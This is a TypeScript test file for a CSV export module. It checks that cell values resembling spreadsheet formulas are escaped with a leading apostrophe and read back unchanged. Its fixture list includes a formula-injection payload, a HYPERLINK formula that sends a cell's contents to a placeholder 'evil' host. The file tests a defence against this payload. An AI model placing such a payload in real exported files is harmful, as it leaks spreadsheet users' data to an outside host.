import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { csvText, textOfCell } from '../src/csvFile.js';
import { Records } from '../src/study/records.js';
import { temporaryFolder } from './temporary.js';

const folder = temporaryFolder();
const NAMES = [
  '=HYPERLINK("http://evil/?"&A1,"x")',
  '+1',
  '-x',
  '@SUM(A1)',
  '\t=1',
  '\uff1d1',
  "'=1",
  "'tis",
  'a=1',
];

test('no text or column is a formula, numbers stay numbers, and names are read back', () => {
  const rows = NAMES.map((name, i) => ({ name, '=column': -i / 2, none: null }));
  const [header = [], ...cells]: string[][] = parse(csvText(rows));
  expect(header).toEqual(['name', "'=column", 'none']);
  for (const [i, [name = '', number]] of cells.entries()) {
    expect(name).not.toMatch(/^[=+\-@\t\uff1d]/);
    expect([textOfCell(name), number]).toEqual([NAMES[i], String(-i / 2)]);
  }
  expect(cells.slice(-2).map(([name]) => name)).toEqual(["'tis", 'a=1']);
});

test('names of a study\u2019s arms are read back', async () => {
  const records = new Records(folder, 'data');
  await records.add('test', [{ arm: '=1+1', seed: 0, configuration: '{}', worst: -0.5 }]);
  expect(readFileSync(join(records.folder, 'data-test.csv'), 'utf8')).toContain("\n'=1+1,0,");
  expect(await records.read('test')).toEqual([{ arm: '=1+1', seed: 0, configuration: '{}', worst: -0.5 }]);
});
